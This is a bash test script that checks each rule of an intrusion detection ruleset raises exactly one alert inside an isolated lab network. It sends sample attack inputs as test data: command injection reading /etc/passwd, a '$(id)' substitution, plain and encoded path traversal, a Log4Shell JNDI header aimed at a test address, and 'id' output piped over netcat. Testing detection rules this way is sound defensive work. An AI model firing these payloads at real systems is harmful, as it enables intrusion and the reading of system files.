#!/usr/bin/env bash
# Every trigger documented in rules/portcullis.rules raises its alert, once,
# in IDS mode (so every request completes); the pass rule for /healthz keeps
# the test string after it from alerting.
# shellcheck source=lib.sh
. "$(dirname "$0")/lib.sh"
need_root
lab_init

lab_start --mode ids
wait_http
url=http://$SERVER4

note "HTTP triggers"
get() {
    local rc
    rc=$(curl_rc --max-time 5 "$@")
    ((rc == 0)) || fail "IDS mode: curl $* failed (exit $rc)"
}
get "$url/?file=x;cat+/etc/passwd"                  # 1000001
get "$url/?q=\$(id)"                                # 1000002
get "$url/?file=../../etc/hosts"                    # 1000003
get "$url/?file=%2e%2e%2fetc%2fhosts"               # 1000004
# shellcheck disable=SC2016 # the ${jndi: is meant literally
get -H 'User-Agent: ${jndi:ldap://198.18.0.2/a}' "$url/"  # 1000005
get "$url/reject-me"                                # 1000006 (IDS: passes)
get "$url/healthz?x=PORTCULLIS-TEST-ALERT"          # 1000007 passes it
get "$url/PORTCULLIS-TEST-ALERT"                    # 1000008
get "$url/PORTCULLIS-TEST-DROP"                     # 1000009

note "id output from a server (1000010)"
bg_ns server idsrv sh -c "id | nc -N -l $SERVER4 9100"
id_answer() {
    local out
    out=$(in_ns client nc -w 3 "$SERVER4" 9100 2>/dev/null) || return 1
    [[ $out == *"uid=0(root)"* ]]
}
wait_for 15 "id output from tcp/9100" id_answer || fail "no id output received"

note "knock phrase in two pieces (1000011)"
bg_ns server knock nc -l "$SERVER4" 9000
listener=$BG_PID
sleep_then() { printf knock-knock-; sleep 1; printf portcullis; }
knock() {
    sleep_then | in_ns client nc -w 2 "$SERVER4" 9000 2>/dev/null
}
wait_for 10 "the knock listener" knock || fail "could not reach tcp/9000"
wait_for 10 "the knock listener to end" pid_gone "$listener" || true

note "telnet SYN (1000012), UDP probe (1000013)"
in_ns client nc -z -w 2 "$SERVER4" 23 || true
echo probe-1 | in_ns client nc -u -w 1 "$SERVER4" 9001 || true

note "UDP reject string (1000016)"
in_ns client python3 "$NT_DIR/netio.py" udp-send "$SERVER4" 9002 \
    PORTCULLIS-UDP-REJECT --wait 1 >/dev/null

if command -v ping >/dev/null; then
    note "ICMP: big echo (1000014), TTL 1 (1000015)"
    in_ns client ping -q -c 1 -W 2 -s 1200 "$SERVER4" >/dev/null \
        || fail "ping -s 1200 through the lab failed"
    in_ns client ping -q -c 1 -W 2 -t 1 "$SERVER4" >/dev/null || true
    icmp_sids="1000014 1000015"
else
    note "no ping installed; ICMP rules not checked"
    icmp_sids=""
fi

lab_stop
missing=""
for sid in 1000001 1000002 1000003 1000004 1000005 1000006 1000008 \
    1000009 1000010 1000011 1000012 1000013 1000016 $icmp_sids; do
    n=$(eve_count "$sid" allowed)
    [[ $n == 1 ]] || missing+=" $sid($n)"
done
[[ -z $missing ]] || fail "sids without exactly one 'allowed' alert" \
    "(count):$missing; all alerts: $(eve_alerts | tr '\n' ';')"
echo "ok: every documented trigger alerts once"
